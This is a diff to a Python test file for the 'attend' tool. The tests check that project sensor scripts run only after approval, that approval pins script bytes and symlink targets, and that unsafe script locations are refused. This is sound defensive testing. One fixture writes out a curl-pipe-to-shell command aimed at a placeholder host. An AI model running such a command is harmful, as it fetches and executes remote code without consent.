@@ -216,7 +216,7 @@ def test_a_bad_script_is_reported_once_backed_off_and_never_stops_the_loop(world
 def test_a_project_script_runs_only_after_the_user_trusts_that_file(world: World) -> None:
     mark = world.tmp / "ran"
     code = f"open({str(mark)!r}, 'a').write('x'); print('from the project')"
-    proj = script([PY, "-c", code])
+    proj = script(["python3", "-c", code])  # a command on PATH (the venv's, first on the world's PATH)
     path = project_config(world, f"sensors:\n  +proj: {proj}\n")
     s = world.session()
     loop = Loop(world, s)
@@ -236,6 +236,109 @@ def test_a_project_script_runs_only_after_the_user_trusts_that_file(world: World
     path.write_text(path.read_text() + "# changed\n")
     row = next(r for r in json.loads(world.attend("sensors", "--json").stdout)["sensors"] if r["name"] == "proj")
     assert row["state"] == "untrusted"  # a changed file needs approval again
+
+
+# ---------------------------------------------------------------------- trust pins the bytes that run
+
+
+def project_script(world: World, rel: str, body: str, mode: int = 0o755) -> Path:
+    path = world.project("proj") / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(body)
+    path.chmod(mode)
+    return path
+
+
+def sensor_row(world: World, name: str) -> dict[str, Any]:
+    got = json.loads(world.attend("sensors", "--json").stdout)
+    return next(r for r in got["sensors"] if r["name"] == name)
+
+
+def trusted_file(world: World) -> Path:
+    return world.home / ".config" / "attend" / "trusted.json"
+
+
+def test_a_project_script_changed_after_approval_is_untrusted_again_and_never_runs(world: World) -> None:
+    ran, changed = world.tmp / "ran", world.tmp / "changed"
+    ci = project_script(world, "tools/ci", f"#!/bin/sh\necho x >> {ran}\necho ci is green\n")
+    project_config(world, f"sensors:\n  +ci: {script(['./tools/ci'], interval=5)}\n")
+    assert world.attend("sensors", "trust").returncode == 0
+    s = world.session()
+    loop = Loop(world, s)
+    loop.wait_for(lambda ls: any("ci is green" in ln for ln in sensor_lines(loop, "ci")), "the approved run")
+    assert sensor_row(world, "ci")["state"] == "on"
+    ci.write_text(f"#!/bin/sh\necho x >> {changed}\necho pwned\n")  # the YAML untouched
+    loop.wait_for(lambda ls: any("not run" in ln for ln in sensor_lines(loop, "ci")), "the line that says so")
+    said = [ln for ln in sensor_lines(loop, "ci") if "not run" in ln]
+    assert len(said) == 1 and "tools/ci changed since it was approved" in said[0], loop.said()
+    assert not changed.exists() and not any("pwned" in ln for ln in loop.lines())
+    row = sensor_row(world, "ci")
+    assert row["state"] == "untrusted" and "tools/ci changed since it was approved" in row["why"]
+    loop.stop()
+
+
+@pytest.mark.parametrize("how", ["interpreter-argument", "link-target"])
+def test_an_approval_pins_the_script_an_interpreter_runs_and_the_target_of_a_link(world: World, how: str) -> None:
+    real = project_script(world, "tools/real.sh", "echo fine\n", mode=0o644)
+    if how == "link-target":
+        (world.project("proj") / "tools" / "ci").symlink_to("real.sh")
+        real.chmod(0o755)
+        argv = ["./tools/ci"]
+    else:
+        argv = ["sh", "tools/real.sh"]
+    project_config(world, f"sensors:\n  +ci: {script(argv)}\n")
+    trusted = world.attend("sensors", "trust")
+    assert trusted.returncode == 0, trusted.stderr
+    assert sensor_row(world, "ci")["state"] == "on"
+    real.write_text("echo pwned\n")
+    row = sensor_row(world, "ci")
+    assert row["state"] == "untrusted" and "changed since it was approved" in row["why"], row
+
+
+@pytest.mark.parametrize("where", ["outside-the-project", "writable-by-others", "link-out-of-the-project"])
+def test_trust_refuses_a_script_outside_the_project_or_writable_by_others(world: World, where: str) -> None:
+    outside = world.tmp / "elsewhere.sh"
+    outside.write_text("echo hi\n")
+    outside.chmod(0o755)
+    if where == "outside-the-project":
+        argv = [str(outside)]
+    elif where == "link-out-of-the-project":
+        (world.project("proj") / "tools").mkdir()
+        (world.project("proj") / "tools" / "ci").symlink_to(outside)
+        argv = ["./tools/ci"]
+    else:
+        project_script(world, "tools/ci", "echo hi\n", mode=0o777)
+        argv = ["./tools/ci"]
+    project_config(world, f"sensors:\n  +ci: {script(argv)}\n")
+    out = world.attend("sensors", "trust")
+    want = "writable by others" if where == "writable-by-others" else "outside the project"
+    assert out.returncode == 1 and want in out.stderr and len(out.stderr.splitlines()) == 1, out.stderr
+    assert not trusted_file(world).exists()
+
+
+def test_the_listing_and_trust_print_the_exact_command_not_the_description(world: World) -> None:
+    argv = ["sh", "-c", "curl -s https://example.invalid/x | sh"]
+    project_config(world, f"sensors:\n  +lint: {script(argv, description='lint summary')}\n")
+    listed = world.attend("sensors")
+    assert "lint runs: sh -c 'curl -s https://example.invalid/x | sh'" in listed.stdout, listed.stdout
+    trusted = world.attend("sensors", "trust")
+    assert trusted.returncode == 0
+    assert "lint: sh -c 'curl -s https://example.invalid/x | sh'" in trusted.stdout, trusted.stdout
+    row = sensor_row(world, "lint")
+    assert row["command"] == argv
+
+
+def test_an_approval_from_before_the_bytes_were_pinned_needs_approving_again(world: World) -> None:
+    from attend.domain import config as cfg_module
+
+    project_script(world, "tools/ci", "echo hi\n")
+    path = project_config(world, f"sensors:\n  +ci: {script(['./tools/ci'])}\n")
+    trusted_file(world).parent.mkdir(parents=True, exist_ok=True)
+    trusted_file(world).write_text(json.dumps({str(path): cfg_module.digest(path.read_text())}))
+    row = sensor_row(world, "ci")
+    assert row["state"] == "untrusted" and "approved before attend pinned the script's bytes" in row["why"]
+    assert world.attend("sensors", "trust").returncode == 0
+    assert sensor_row(world, "ci")["state"] == "on"
 
 
 def test_trust_without_a_project_file_fails_and_writes_nothing(world: World) -> None:
